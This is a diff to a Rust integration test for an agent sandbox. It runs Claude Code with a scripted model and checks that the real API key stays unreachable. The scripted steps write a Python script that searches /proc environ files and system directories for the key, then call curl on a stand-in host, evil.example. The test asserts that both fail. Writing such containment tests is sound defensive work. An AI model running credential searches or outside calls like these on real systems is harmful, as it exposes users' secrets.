@@ -11,7 +11,8 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::Duration;
 
-use agentd_tests::messages_api::{Script, Server};
+use agentd_tests::messages_api::{Lock, Script, Server};
+use agentd_tests::tls::Authority;
 use agentd_tests::{Feature, Home, require, run};
 use serde_json::{Value, json};
 
@@ -316,7 +317,18 @@ fn claude() -> Option<PathBuf> {
     std::env::split_paths(&path).map(|directory| directory.join("claude")).find(is_native)
 }
 
-/// Claude Code with its tools, a script in the place of the model.
+/// Looks for the API's key in everything that the agent's tools can read; it is put together where no command line has it.
+const SEARCH: &str = "import os
+needle = '-'.join(['sk', 'of', 'the', 'agent', '0123456789']).encode()
+def holds(path):
+    try: return needle in open(path, 'rb').read(1 << 20)
+    except OSError: return False
+names = [f'/proc/{p}/{n}' for p in os.listdir('/proc') if p.isdigit() for n in ('environ', 'cmdline')]
+names += [f'{d}/{n}' for top in ('/run', '/tmp', '/home', '/etc') for d, _, f in os.walk(top) for n in f]
+print(len(names) > 20, [name for name in names if holds(name)], os.environ['ANTHROPIC_API_KEY'])
+";
+
+/// Claude Code with its tools, a script in the place of the model; its key is added outside, and nothing else is reached.
 #[test]
 fn cli_workload_claude() {
     let Some(home) = home_with(&["git", "bash"]) else { return };
@@ -332,17 +344,33 @@ fn cli_workload_claude() {
         uses("Read", json!({ "file_path": "/workspace/app.py" })),
         uses("Edit", json!({ "file_path": "/workspace/app.py", "old_string": "return n", "new_string": "return 2 * n" })),
         bash("grep -rn twice . --include='*.py'; find . -name '*.py' | head; python3 -c 'import app; assert app.twice(2) == 4'"),
+        uses("Write", json!({ "file_path": "/tmp/search.py", "content": SEARCH })),
+        bash("python3 /tmp/search.py > /tmp/found; curl -sS https://evil.example/ >> /tmp/found 2>&1"),
         bash("git add -A && git commit -qm 'Twice' && git log --stat | cat; sleep 0.1 & wait"),
         { "text": "All of it is done." },
     ] });
     let script: Script = serde_json::from_value(script).unwrap();
-    let server = Server::start(script, None).unwrap();
+    let (authority, key) = (Authority::new(), "sk-of-the-agent-0123456789");
+    let place = |name: &str| home.path().join("config").join(name).display().to_string();
+    authority.write(place("authority").as_ref());
+    fs::write(place("key"), key).unwrap();
+    let record = File::create(place("requests")).unwrap();
+    let lock = Lock { tls: authority.vouch_for("api.test"), key: key.into() };
+    let server = Server::locked(script, Some(record), lock).unwrap();
     drop(run(Command::new("git").args(["init", "-q"]).arg(home.workspace())).expect_success());
     let mount = format!("type=bind,src={},dst=/mnt/claude", claude.display());
-    let (url, key) = (format!("ANTHROPIC_BASE_URL={}", server.url()), "ANTHROPIC_API_KEY=none");
-    let flags =
-        ["--net", "host", "--mount", &mount, "-e", &url, "-e", key, "-e", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1"];
+    let secret = format!("ANTHROPIC_API_KEY@api.test:{}=file:{}", server.port(), place("key"));
+    let traffic = "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1";
+    let upstream = ["--add-host", "api.test:127.0.0.1", "--upstream-ca", &place("authority")];
+    let flags = [&["--mount", &mount, "-e", traffic, "--secret", &secret], &upstream[..]].concat();
     let script = "/mnt/claude -p --permission-mode bypassPermissions --setting-sources user --strict-mcp-config 'Do it' </dev/null
-        git log --format=%s; python3 -c 'import app; print(app.twice(21))'";
-    works(&home, &flags, script, "All of it is done.\nTwice\n42", &[]);
+        git log --format=%s; python3 -c 'import app; print(app.twice(21))'; cat /tmp/found";
+    let says = "All of it is done.\nTwice\n42\nTrue [] agentd-adds-the-key-outside\n\
+                curl: (6) Could not resolve host: evil.example";
+    works(&home, &flags, script, says, &[]);
+    let requests = fs::read_to_string(place("requests")).unwrap();
+    assert!(requests.lines().count() > 5 && !requests.contains("\"has_key\":false"), "{requests}");
+    // Refused once a kind, and not asked for again.
+    let network = &home.jobs()[0]["network"];
+    assert!(network["refused"].as_u64().unwrap() < 10, "{network}");
 }
